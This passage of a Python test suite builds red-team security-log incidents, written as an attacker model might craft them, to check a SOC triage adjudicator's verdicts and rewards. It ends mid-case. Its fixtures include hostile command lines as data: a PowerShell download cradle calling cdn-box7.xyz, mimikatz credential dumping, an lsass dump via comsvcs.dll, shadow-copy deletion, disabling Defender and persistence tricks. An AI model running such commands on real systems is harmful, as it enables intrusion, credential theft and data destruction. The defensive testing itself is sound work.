"""A red-team suite: incidents crafted as an attacker model would write them, each with the verdict a SOC analyst
would give and the reward the attacker must get.

Classes: the same technique written the way real logs write it; tier-0 groups beyond the famous ones; activity
spread out over events, addresses and sources; context that must not excuse; nonsense that must be refused; text
that names a technique without running it; activity just under a threshold, which must be contested, not paid.
For a sound craft a defender that answers the analyst's verdict leaves the attacker nothing and a wrong one pays
it; an unsound craft pays nothing whatever the defender answers.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

import pytest
from support.crafting import (
    access,
    auth,
    conn,
    dns,
    email,
    encoded,
    files,
    group_add,
    http,
    incident,
    proc,
    reg,
)

from opensoc.adjudication.gate import adjudicate
from opensoc.rubric import score_incident
from opensoc.schema import TRIAGE_ACTIONS
from opensoc.world.inventory import DOMAIN_SID, INVENTORY

WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
STAGER = encoded("IEX (New-Object Net.WebClient).DownloadString('http://cdn-box7.xyz/a.ps1')")
TOR = "185.220.101.23"
VPN = INVENTORY.host("VPN01").ip


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], object]
    verdict: str  # what a SOC analyst would do
    unsound: str | None = None  # the outcome that refuses it: implausible, contested or mislabelled
    code: str | None = None  # the plausibility code, for implausible crafts


def _sound(name, verdict, build):
    return Case(name, build, verdict)


def _refused(name, outcome, build, verdict="dismiss", code=None):
    return Case(name, build, verdict, outcome, code)


CASES = [
    # --- the same technique, written the way real logs write it
    _sound("word_full_path_starts_cmd", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host",
        proc(0, "FIN-WS01", "alice.chen", "cmd.exe", "cmd.exe /c start /b C:\\Users\\alice.chen\\AppData\\Local\\Temp\\u.exe",
             parent=WORD))),
    _sound("encodedcom_prefix", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host",
        proc(0, "HR-WS01", "carol.diaz", "powershell.exe", f"powershell.exe -NoP -EncodedCom {STAGER}", executable=PS))),
    _sound("en_dash_enc", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host",
        proc(0, "HR-WS01", "carol.diaz", "powershell.exe", f"powershell.exe \u2013enc {STAGER}", executable=PS))),
    _sound("slash_e_switch", "quarantine_host", lambda: incident(
        "malware_execution", "malicious",
        proc(0, "HR-WS01", "carol.diaz", "powershell.exe", f"powershell.exe /w 1 /e {STAGER}", executable=PS))),
    _sound("corp_prefixed_domain_admins", "escalate", lambda: incident(
        "privilege_escalation", "escalate", group_add(0, "bob.martin", "bob.martin", "CORP\\Domain Admins"))),
    _sound("domain_admins_by_sid", "escalate", lambda: incident(
        "privilege_escalation", "escalate", group_add(0, "bob.martin", "bob.martin", "Sales", sid=f"{DOMAIN_SID}-512")
        | {"group.name": "Domain Admins"})),
    _sound("policies_explorer_run", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", reg(0, "ENG-WS01", "dave.kim",
                                                    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run\\upd",
                                                    "%APPDATA%\\upd\\upd.exe"))),
    _sound("runonce_full_hive_name", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", reg(0, "ENG-WS01", "dave.kim",
                                                    "HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x",
                                                    "mshta.exe http://cdn-box7.xyz/p.hta"))),
    _sound("vssadmin_inside_cmd", "escalate", lambda: incident(
        "ransomware", "escalate", proc(0, "APP01", "SYSTEM", "cmd.exe", 'cmd.exe /c "vssadmin.exe Delete Shadows /All /Quiet"'))),
    _sound("shadowcopy_via_wmi_cmdlets", "escalate", lambda: incident(
        "ransomware", "escalate", proc(0, "APP01", "SYSTEM", "powershell.exe",
                                       'powershell.exe -c "Get-WmiObject Win32_ShadowCopy | Remove-WmiObject"', executable=PS))),
    _sound("comsvcs_ordinal", "quarantine_host", lambda: incident(
        "credential_access", "quarantine_host", proc(0, "SALES-WS01", "grace.lee", "rundll32.exe",
                                                     "rundll32.exe C:\\windows\\System32\\comsvcs.dll, #24 612 C:\\temp\\d.bin full"))),
    _sound("invoke_command_prefix", "escalate", lambda: incident(
        "lateral_movement", "escalate", proc(0, "ENG-WS02", "erin.patel", "powershell.exe",
                                             'powershell.exe -c "icm -Comp APP01 -ScriptBlock { hostname }"', executable=PS))),
    _sound("wmic_dash_node", "escalate", lambda: incident(
        "lateral_movement", "escalate", proc(0, "ENG-WS02", "erin.patel", "WMIC.exe",
                                             'wmic.exe -node:10.20.0.11 process call create "cmd.exe /c hostname"',
                                             executable="C:\\Windows\\System32\\wbem\\WMIC.exe"))),
    _sound("fqdn_host_name", "quarantine_host", lambda: incident(
        "credential_access", "quarantine_host", access(0, "fin-ws01.corp.example.com", "alice.chen", "x.exe",
                                                       "C:\\Users\\alice.chen\\AppData\\Local\\Temp\\x.exe"))),
    _sound("device_path_target", "quarantine_host", lambda: incident(
        "credential_access", "quarantine_host", access(0, "FIN-WS02", "bob.martin", "x.exe", "C:\\Users\\Public\\x.exe",
                                                       target="\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe"))),
    _sound("defender_path_traversal", "quarantine_host", lambda: incident(
        "credential_access", "quarantine_host", access(
            0, "FIN-WS02", "SYSTEM", "MsMpEng.exe",
            "C:/ProgramData/Microsoft/Windows Defender/Platform/../../../../Users/Public/MsMpEng.exe"))),
    _sound("domain_prefixed_admin_is_still_admin", "dismiss", lambda: incident(
        "admin_remote_tooling", "dismiss", proc(0, "JUMP01", "CORP\\ivan.petrov", "PsExec.exe",
                                                "PsExec.exe \\\\APP01 -s cmd.exe /c hostname", parent="cmd.exe"))),
    # --- tier-0 groups beyond Domain Admins
    _sound("self_add_account_operators", "escalate", lambda: incident(
        "privilege_escalation", "escalate", group_add(0, "nina.schultz", "nina.schultz", "Account Operators", event_id=4732))),
    _sound("backup_operators_by_sid", "escalate", lambda: incident(
        "privilege_escalation", "malicious", group_add(0, "kevin.brown", "kevin.brown", "BUILTIN\\Backup Operators",
                                                       event_id=4732, sid="S-1-5-32-551"))),
    _sound("dnsadmins", "escalate", lambda: incident(
        "privilege_escalation", "escalate", group_add(0, "frank.osei", "frank.osei", "DnsAdmins", event_id=4732))),
    _sound("joining_it_admins", "escalate", lambda: incident(
        "privilege_escalation", "escalate", group_add(0, "henry.nguyen", "henry.nguyen", "IT-Admins"))),
    # --- the same activity spread out
    _sound("ransomware_64_rollups_of_99", "escalate", lambda: incident(
        "ransomware", "escalate", *[files(i, "FIN-WS01", "alice.chen", "rename", 99, "svcupd.exe") for i in range(64)])),
    _sound("ransomware_write_new_delete_old", "escalate", lambda: incident(
        "ransomware", "escalate", files(0, "FIN-WS01", "alice.chen", "creation", 400, "svcupd.exe"),
        files(30, "FIN-WS01", "alice.chen", "deletion", 400, "svcupd.exe", ext=".docx"))),
    _sound("exfil_over_five_addresses", "escalate", lambda: incident(
        "data_exfiltration", "escalate", *[http(i * 60, "LEGAL-WS01", "nina.schultz", f"104.21.48.{10 + i}", "files-hub3.io",
                                                f"/u/{i}", method="PUT", sent=25_000_000) for i in range(5)])),
    _sound("brute_force_seven_sources_then_success", "escalate", lambda: incident(
        "brute_force", "escalate", *[auth(i * 30, "APP01", "maria.rossi", f"91.92.240.{20 + i % 7}", "failure")
                                     for i in range(12)], auth(400, "APP01", "maria.rossi", "91.92.240.22", "success"))),
    _sound("dns_tunnel_29_char_labels", "escalate", lambda: incident(
        "data_exfiltration", "escalate", *[dns(i * 3, "ENG-WS03", f"{chr(97 + i)}{'q' * 27}{i % 10}.sync-hub4.top")
                                           for i in range(20)])),
    _sound("beacon_every_4_seconds", "quarantine_host", lambda: incident(
        "c2_beacon", "quarantine_host", *[conn(i * 4, "SALES-WS02", "66.42.98.17", sent=300) for i in range(10)])),
    _sound("scan_from_one_slash_24", "block_ip", lambda: incident(
        "port_scan", "block_ip", *[conn(i, "APP01" if i % 2 else "FILE01", "10.20.0.11" if i % 2 else "10.20.0.13",
                                        [22, 80, 443, 445, 3389, 5985][i // 2], src=f"5.188.86.{30 + i % 3}", sent=0,
                                        recv=0, state="S0") for i in range(12)])),
    # --- context that must not excuse
    _sound("domain_admin_rdp_to_dc_from_internet", "escalate", lambda: incident(
        "lateral_movement", "escalate", auth(0, "DC01", "julia.santos", "193.142.146.77", "success", logon_type=10))),
    _sound("admin_certutil_download_on_jump_host", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", proc(0, "JUMP02", "omar.haddad", "certutil.exe",
                                                     "certutil.exe -urlcache -f https://tools-drop9.site/nc.exe C:\\Tools\\nc.exe",
                                                     parent="cmd.exe"))),
    _sound("5gb_to_windows_update_address", "escalate", lambda: incident(
        "data_exfiltration", "escalate", conn(0, "FILE01", "13.107.4.50", sent=5_000_000_000))),
    _sound("5gb_to_backup_vault_from_a_workstation", "escalate", lambda: incident(
        "data_exfiltration", "escalate", http(0, "FIN-WS02", "bob.martin", "52.95.110.40", "vault.cloudbackup-corp.net",
                                              "/v1/objects/1", method="PUT", sent=5_000_000_000))),
    # --- nonsense: refused
    _refused("lsass_on_ubuntu", "implausible", lambda: incident(
        "credential_access", "quarantine_host", access(0, "WEB01", "SYSTEM", "x.exe", "C:\\Users\\Public\\x.exe")),
        verdict="quarantine_host", code="OS_MISMATCH"),
    _refused("windows_security_on_ubuntu", "implausible", lambda: incident(
        "brute_force", "block_ip", *[auth(i, "APP01", "dave.kim", "45.133.1.9", "failure") | {"host": "WEB01"} for i in range(12)]),
        verdict="block_ip", code="OS_MISMATCH"),
    _refused("year_0001", "implausible", lambda: incident(
        "ransomware", "escalate", proc(0, "APP01", "SYSTEM", "vssadmin.exe", "vssadmin.exe delete shadows /all")
        | {"timestamp": "0001-01-01T00:00:00Z"}), verdict="escalate", code="TIMESTAMP_RANGE"),
    _refused("macro_before_the_mail", "implausible", lambda: incident(
        "phishing", "quarantine_host",
        proc(0, "FIN-WS01", "alice.chen", "powershell.exe", f"powershell.exe -enc {STAGER}", parent="WINWORD.EXE", executable=PS),
        email(1200, "alice.chen", "billing@docs-zone4.xyz", attachment="invoice.docm")),
        verdict="quarantine_host", code="CAUSE_AFTER_EFFECT"),
    _refused("64_identical_events", "implausible", lambda: incident(
        "malware_execution", "dismiss", *[proc(0, "FIN-WS01", "alice.chen", "notepad.exe", "notepad.exe") for _ in range(64)]),
        code="DUPLICATE_EVENTS"),
    _refused("category_nobody_depicts", "implausible", lambda: incident(
        "phishing", "monitor", proc(0, "FIN-WS01", "alice.chen", "notepad.exe", "notepad.exe a.txt")),
        code="CATEGORY_NOT_DEPICTED"),
    _refused("dc_99mb_to_tor_as_heartbeat", "implausible", lambda: incident(
        "telemetry_heartbeat", "dismiss", conn(0, "DC01", TOR, sent=99_000_000)), code="CATEGORY_NOT_DEPICTED"),
    _refused("mail_logged_on_a_workstation", "implausible", lambda: incident(
        "phishing", "monitor", email(0, "alice.chen", "a@docs-zone4.xyz", attachment="x.iso", host="FIN-WS01")),
        verdict="monitor", code="ROLE_MISMATCH"),
    _refused("domain_group_change_on_a_workstation", "implausible", lambda: incident(
        "privilege_escalation", "escalate", group_add(0, "bob.martin", "bob.martin", "Domain Admins", host="FIN-WS02")),
        verdict="escalate", code="ROLE_MISMATCH"),
    _refused("comspec_substring_obfuscation", "implausible", lambda: incident(
        "ransomware", "dismiss", proc(0, "APP01", "SYSTEM", "cmd.exe", "cmd.exe /c %COMSPEC:~-7,1%ssadmin delete shadows")),
        code="UNMODELLED_VALUE"),
    _refused("encoded_command_that_does_not_decode", "implausible", lambda: incident(
        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "powershell.exe",
                                                     "powershell.exe -enc QUJDREVGR0hJSktMTU5PUFFSU1RVVldY", executable=PS)),
        verdict="quarantine_host", code="UNMODELLED_VALUE"),
    _refused("name_and_image_disagree", "implausible", lambda: incident(
        "malware_execution", "dismiss", proc(0, "FIN-WS01", "alice.chen", "notepad.exe", f"powershell.exe -enc {STAGER}",
                                             executable=PS)), verdict="quarantine_host", code="UNMODELLED_VALUE"),
    # --- text that names a technique without running it: dismiss, soundly
    _sound("notepad_note_about_procdump_lsass", "dismiss", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "alice.chen", "notepad.exe", 'notepad.exe "C:\\Users\\alice.chen\\how to stop procdump -ma lsass.txt"'),
        http(60, "FIN-WS01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000))),
    _sound("findstr_searching_for_net_group", "dismiss", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "alice.chen", "findstr.exe", 'findstr.exe /i "net group admins /domain" C:\\logs\\audit.log'),
        http(60, "FIN-WS01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000))),
    _sound("comment_mentions_vssadmin", "dismiss", lambda: incident(
        "software_update", "dismiss",
        proc(0, "APP01", "SYSTEM", "cmd.exe", "cmd.exe /c echo cleanup & rem vssadmin delete shadows /all is blocked"),
        http(60, "APP01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000))),
    _sound("powershell_comment_names_a_cradle", "dismiss", lambda: incident(
        "software_update", "dismiss",
        proc(0, "APP01", "SYSTEM", "powershell.exe", 'powershell.exe -c "Get-Service # IEX DownloadString(http://x.io)"',
             executable=PS),
        http(60, "APP01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000))),
    # --- just under a threshold: nothing explains the activity, so it is refused, never paid
    _refused("nine_failures_from_the_internet", "implausible", lambda: incident(
        "password_typo", "dismiss", *[auth(i * 20, "APP01", "dave.kim", "45.133.1.9", "failure") for i in range(9)]),
        code="UNEXPLAINED_EVENT"),
    _refused("99mb_upload_to_tor_next_to_heartbeats", "implausible", lambda: incident(
        "telemetry_heartbeat", "dismiss", *[conn(i * 300, "DC01", "34.120.88.21", sent=900) for i in range(4)],
        conn(1300, "DC01", TOR, sent=99_000_000)), code="UNEXPLAINED_EVENT"),
    _refused("beacon_with_45pct_jitter", "implausible", lambda: incident(
        "c2_beacon", "quarantine_host", *[conn(t, "SALES-WS02", "66.42.98.17", sent=300) for t in (0, 60, 95, 180, 205, 300)]),
        code="CATEGORY_NOT_DEPICTED"),
    _refused("nine_target_scan", "implausible", lambda: incident(
        "port_scan", "block_ip", *[conn(i, "FILE01", "10.20.0.13", 20 + i, src="5.188.86.40", sent=0, recv=0, state="REJ")
                                   for i in range(9)] + [conn(9, "FILE01", "10.20.0.13", 20, src="5.188.86.40", sent=0,
                                                              recv=0, state="REJ", sport=51001)]),
        code="CATEGORY_NOT_DEPICTED"),
    _refused("99_files_renamed", "implausible", lambda: incident(
        "ransomware", "escalate", files(0, "FIN-WS01", "alice.chen", "rename", 99, "svcupd.exe")), code="UNEXPLAINED_EVENT"),
    _refused("word_starts_notepad", "implausible", lambda: incident(
        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "notepad.exe", "notepad.exe", parent=WORD)),
        code="CATEGORY_NOT_DEPICTED"),
    _refused("lone_external_smb_logon", "implausible", lambda: incident(
        "lateral_movement", "escalate", auth(0, "APP01", "dave.kim", "45.133.1.9", "success")), code="UNEXPLAINED_EVENT"),
    # --- explained as ordinary, yet an independent rule flags it: contested, never paid
    _refused("benign_encoded_command_on_a_workstation", "contested", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "alice.chen", "powershell.exe", f"powershell.exe -NoProfile -EncodedCommand {encoded('Get-Date')}",
             executable=PS),
        http(60, "FIN-WS01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000))),
    # --- the world's own benign services: the analyst's dismiss is the verdict
    _sound("vpn_gateway_logon_burst", "dismiss", lambda: incident(
        "admin_remote_tooling", "dismiss", *[auth(i * 30, host, user, VPN, "success") for i, (host, user) in enumerate(
            [("FILE01", "alice.chen"), ("APP01", "bob.martin"), ("FILE01", "carol.diaz"), ("APP01", "dave.kim"),
             ("FILE01", "erin.patel"), ("APP01", "frank.osei"), ("FILE01", "grace.lee"), ("APP01", "henry.nguyen"),
             ("FILE01", "laura.white"), ("APP01", "nina.schultz"), ("FILE01", "kevin.brown"), ("APP01", "julia.santos")])])),
    _sound("ntp_to_the_time_server", "dismiss", lambda: incident(
        "telemetry_heartbeat", "dismiss", *[conn(i * 64, "FIN-WS01", "168.61.215.74", 123, sent=48, recv=48) | {
            "network.transport": "udp", "network.protocol": "ntp"} for i in range(8)])),
    _sound("mail_relay_blocklist_lookups", "dismiss", lambda: incident(
        "telemetry_heartbeat", "dismiss", *[dns(i * 3, "MAIL01", f"{i}.{200 - i}.113.203.zen.spamhaus.org", "A")
                                            for i in range(30)])),
    _sound("stale_service_password", "dismiss", lambda: incident(
        "password_typo", "dismiss", *[auth(i * 60, "FILE01", "svc_backup", INVENTORY.host("BKP01").ip, "failure")
                                      for i in range(15)])),
    _sound("git_checkout_rewrites_a_repository", "dismiss", lambda: incident(
        "software_update", "dismiss", files(0, "ENG-WS01", "dave.kim", "modification", 900, "git.exe",
                                            path="C:\\Users\\dave.kim\\source\\repos\\billing\\*", ext=".cs"))),
    _sound("management_agent_encoded_command", "dismiss", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "SYSTEM", "powershell.exe",
             f"powershell.exe -NoProfile -EncodedCommand {encoded('Get-Service -Name CcmExec | Restart-Service')}",
             executable=PS, parent="CcmExec.exe"))),
    _sound("backup_retention", "dismiss", lambda: incident(
        "scheduled_backup", "dismiss", proc(0, "BKP01", "svc_backup", "wbadmin.exe",
                                            "wbadmin.exe delete backup -keepVersions:14 -quiet", parent="svchost.exe"))),
    _sound("malicious_software_removal_tool_reads_lsass", "dismiss", lambda: incident(
        "telemetry_heartbeat", "dismiss", access(0, "FIN-WS02", "SYSTEM", "MRT.exe", "C:\\Windows\\System32\\MRT.exe"))),
    # --- nonsense the world's physics refuses
    _refused("bytes_on_a_sysmon_network_event", "implausible", lambda: incident(
        "data_exfiltration", "escalate", conn(0, "FILE01", TOR, sent=500_000_000) | {"source": "sysmon",
                                                                                      "zeek.connection.state": None}),
        verdict="escalate", code="SOURCE_FIELDS"),
    _refused("dns_label_of_70", "implausible", lambda: incident(
        "data_exfiltration", "escalate", *[dns(i, "FIN-WS01", f"{'a' * 70}{i}.exfil-box.xyz") for i in range(40)]),
        verdict="escalate", code="INVALID_NAME"),
    _refused("ipv4_to_ipv6_flow", "implausible", lambda: incident(
        "data_exfiltration", "escalate", conn(0, "FILE01", "2606:4700::6810:1", sent=500_000_000)),
        verdict="escalate", code="ADDRESS_FAMILY"),
    _refused("system_into_domain_admins", "implausible", lambda: incident(
        "privilege_escalation", "escalate", group_add(0, "bob.martin", "SYSTEM", "Domain Admins")),
        verdict="escalate", code="BUILTIN_IN_DOMAIN_GROUP"),
    _refused("connect_to_a_file_path", "implausible", lambda: incident(
        "data_exfiltration", "escalate", http(0, "FILE01", "SYSTEM", TOR, "relay.exfil-box.xyz", "/etc/shadow",
                                              method="CONNECT", sent=500_000_000)), verdict="escalate", code="HTTP_FORM"),
    _refused("unknown_tool", "implausible", lambda: incident(
        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "zzqdump.exe", "zzqdump.exe --all")),
        code="UNKNOWN_PROGRAM"),
    _refused("unknown_form_of_a_lolbin", "implausible", lambda: incident(
        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "bcdedit.exe",
                                                     "bcdedit.exe /set {default} safeboot minimal")),
        code="UNKNOWN_FORM"),
    _refused("wmi_event_consumer", "implausible", lambda: incident(
        "malware_execution", "quarantine_host", proc(
            0, "FIN-WS01", "SYSTEM", "WMIC.exe", 'wmic.exe /namespace:\\\\root\\subscription path '
            'CommandLineEventConsumer create Name="u" CommandLineTemplate="C:\\Users\\Public\\u.exe"',
            executable="C:\\Windows\\System32\\wbem\\WMIC.exe")), code="UNKNOWN_FORM"),
    _refused("word_drops_a_shortcut_into_startup", "implausible", lambda: incident(
        "software_update", "dismiss", files(0, "FIN-WS01", "alice.chen", "creation", 1, "WINWORD.EXE",
                                            path="C:\\Users\\alice.chen\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu"
                                                 "\\Programs\\Startup\\update.lnk", ext=".lnk"),
        http(60, "FIN-WS01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000)),
        code="UNEXPLAINED_EVENT"),
    _refused("file_association_hijack", "implausible", lambda: incident(
        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "SYSTEM", "cmd.exe",
                                                     "cmd.exe /c ftype txtfile=C:\\Users\\Public\\u.exe %1")),
        code="UNKNOWN_FORM"),
    _refused("sticky_keys_replaced_by_cmd", "implausible", lambda: incident(
        "malware_execution", "quarantine_host", proc(
            0, "FIN-WS01", "SYSTEM", "cmd.exe",
            "cmd.exe /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe")),
        code="UNKNOWN_FORM"),
    # --- attacks in the forms real logs write them: read and convicted
    _sound("run_key_starts_a_cradle", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", reg(
            0, "FIN-WS01", "alice.chen", "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
            "powershell.exe -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://cdn-box7.xyz/a.ps1')\"",
            process="reg.exe"))),
    _sound("ifeo_debugger_on_sethc", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", reg(
            0, "FIN-WS01", "SYSTEM", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
            "Options\\sethc.exe\\Debugger", "C:\\Windows\\System32\\cmd.exe", process="reg.exe"))),
    _sound("scheduled_task_runs_a_user_writable_program", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", proc(
            0, "FIN-WS01", "alice.chen", "schtasks.exe",
            'schtasks.exe /create /tn Updater /tr "C:\\Users\\Public\\svcupd.exe" /sc onlogon', parent="cmd.exe"))),
    _sound("renamed_mimikatz", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "notes.exe",
                                                     "notes.exe privilege::debug sekurlsa::logonpasswords exit",
                                                     executable="C:\\Users\\alice.chen\\Downloads\\notes.exe",
                                                     original="mimikatz.exe"))),
    _sound("vssadmin_behind_cmd_if", "escalate", lambda: incident(
        "ransomware", "escalate", proc(0, "APP01", "SYSTEM", "cmd.exe", "cmd.exe /c if 1==1 vssadmin delete shadows /all /quiet"))),
    _sound("vssadmin_behind_powershell_concatenation", "escalate", lambda: incident(
        "ransomware", "escalate", proc(0, "APP01", "SYSTEM", "powershell.exe",
                                       "powershell.exe -c \"& ('vss'+'admin') delete shadows /all /quiet\"", executable=PS))),
    _sound("url_with_trusted_userinfo", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", proc(
            0, "FIN-WS01", "alice.chen", "certutil.exe",
            "certutil.exe -urlcache -f https://login.microsoftonline.com@cdn-box7.xyz/a.exe C:\\Users\\Public\\a.exe"))),
    _sound("defender_switched_off", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "SYSTEM", "powershell.exe",
                                                     "powershell.exe -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
                                                     executable=PS))),
    # --- a real attack claimed as benign: the blind-spot farm is closed
    _refused("attack_claimed_benign", "implausible", lambda: incident(
        "malware_execution", "malicious", proc(0, "FIN-WS01", "alice.chen", "notepad.exe", "notepad.exe x.txt")),
        code="CATEGORY_NOT_DEPICTED"),
    _refused("macro_claimed_as_monitor", "mislabelled", lambda: incident(
        "malware_execution", "monitor", proc(0, "FIN-WS01", "alice.chen", "cmd.exe", "cmd.exe /c whoami", parent=WORD)),
        verdict="quarantine_host"),
    # --- interpreter syntax read as the interpreter reads it: cmd.exe's switches glued to the command or the program,
    # PowerShell's new lines (statement ends) and parentheses (what they hold runs), under the management agent too
    _sound("cmd_switch_glued_to_the_command", "escalate", lambda: incident(
        "ransomware", "escalate",
        proc(0, "APP01", "SYSTEM", "cmd.exe", "cmd.exe /cvssadmin delete shadows /all /quiet", parent="services.exe"))),
    _refused("cmd_switch_glued_to_the_program_claimed_weaker", "mislabelled", lambda: incident(
        "ransomware", "quarantine_host",
        proc(0, "APP01", "SYSTEM", "cmd.exe", "cmd.exe/c vssadmin delete shadows /all /quiet", parent="services.exe")),
        verdict="escalate"),
    _refused("cmd_chained_switches_claimed_weaker", "mislabelled", lambda: incident(
        "ransomware", "monitor",
        proc(0, "APP01", "SYSTEM", "cmd.exe", "cmd /q/Cvssadmin delete shadows /all /quiet", parent="services.exe")),
        verdict="escalate"),
    _refused("powershell_new_line_under_the_management_agent", "implausible", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "SYSTEM", "powershell.exe", "powershell.exe -NoProfile -EncodedCommand "
             + encoded("Get-Service -Name CcmExec\r\nvssadmin delete shadows /all /quiet"), executable=PS,
             parent="CcmExec.exe")), verdict="escalate", code="CATEGORY_NOT_DEPICTED"),
    _refused("powershell_cast_group_under_the_management_agent", "implausible", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "SYSTEM", "powershell.exe",
             'powershell.exe -NoProfile -Command "Get-Date; [void](vssadmin delete shadows /all /quiet)"', executable=PS,
             parent="CcmExec.exe")), verdict="escalate", code="CATEGORY_NOT_DEPICTED"),
    _sound("powershell_grouped_discovery", "monitor", lambda: incident(
        "discovery", "monitor",
        proc(0, "FIN-WS01", "alice.chen", "powershell.exe", 'powershell.exe -NoProfile -Command "(nltest /domain_trusts)"',
             executable=PS))),
    # --- registry writes by reg.exe: an autostart value's command is judged; any other write is not understood
    _refused("reg_add_wdigest_clear_text_credentials", "implausible", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "SYSTEM", "reg.exe", 'reg.exe add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders'
             '\\WDigest" /v UseLogonCredential /t REG_DWORD /d 1 /f', parent="CcmExec.exe")), code="UNKNOWN_FORM"),
    _refused("reg_add_sticky_keys_debugger", "implausible", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "SYSTEM", "reg.exe", 'reg.exe add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\'
             'Image File Execution Options\\sethc.exe" /v Debugger /d C:\\Windows\\System32\\cmd.exe /f',
             parent="CcmExec.exe")), code="UNKNOWN_FORM"),
    _sound("reg_add_run_key_with_a_trailing_backslash", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host",
        proc(0, "FIN-WS01", "alice.chen", "reg.exe", "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion"
             "\\Run\\ /v upd /d C:\\Users\\Public\\svcupd.exe /f", parent="cmd.exe"))),
    _sound("wdigest_in_sysmons_dword_spelling", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host",
        reg(0, "FIN-WS01", "SYSTEM", "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\"
            "UseLogonCredential", "DWORD (0x00000001)"))),
    # --- a URL's host as a client reads it: the authority ends at ?, # or \ (a trusted name after them is not the
    # host), an IPv6 literal is an address, a fetcher's URL may have no scheme, and one held in a variable is unread
    _sound("msiexec_trusted_name_after_the_query", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host",
        proc(0, "FIN-WS01", "SYSTEM", "msiexec.exe", "msiexec.exe /qn /i http://cdn-box7.xyz?@download.windowsupdate.com"
             "/a.msi", parent="services.exe"))),
    _refused("msiexec_trusted_name_after_a_backslash_claimed_benign", "implausible", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "SYSTEM", "msiexec.exe", "msiexec.exe /qn /i http://cdn-box7.xyz\\@download.windowsupdate.com"
             "/a.msi", parent="CcmExec.exe")), verdict="quarantine_host", code="CATEGORY_NOT_DEPICTED"),
    _sound("bits_download_from_an_ipv6_literal", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host",
        proc(0, "FIN-WS01", "SYSTEM", "powershell.exe", 'powershell.exe -NoProfile -c "Start-BitsTransfer -Source '
             'http://[2606:4700::6810:1]/a.exe -Destination C:\\Windows\\Temp\\a.exe"', executable=PS,
             parent="CcmExec.exe"))),
    _sound("invoke_webrequest_without_a_scheme", "quarantine_host", lambda: incident(
        "malware_execution", "quarantine_host",
        proc(0, "FIN-WS01", "alice.chen", "powershell.exe", 'powershell.exe -NoProfile -c "iwr cdn-box7.xyz/a.exe '
             '-OutFile C:\\Users\\Public\\a.exe"', executable=PS))),
    _refused("invoke_webrequest_of_a_variable", "implausible", lambda: incident(
        "software_update", "dismiss",
        proc(0, "FIN-WS01", "SYSTEM", "powershell.exe", "powershell.exe -NoProfile -c \"Invoke-WebRequest $u -OutFile "
             "C:\\Windows\\Temp\\a.exe\"", executable=PS, parent="CcmExec.exe")),
        code="UNKNOWN_FORM"),
    # --- a device path names no drive letter: its folder, and so the program's trust, is unknown (found by the
    # mutation search: whoami.exe there was judged masquerading and paid as quarantine_host against monitor)
    _refused("device_path_of_a_known_program", "implausible", lambda: incident(
        "malware_execution", "quarantine_host",
        proc(0, "FIN-WS01", "alice.chen", "whoami.exe", "whoami.exe /all",
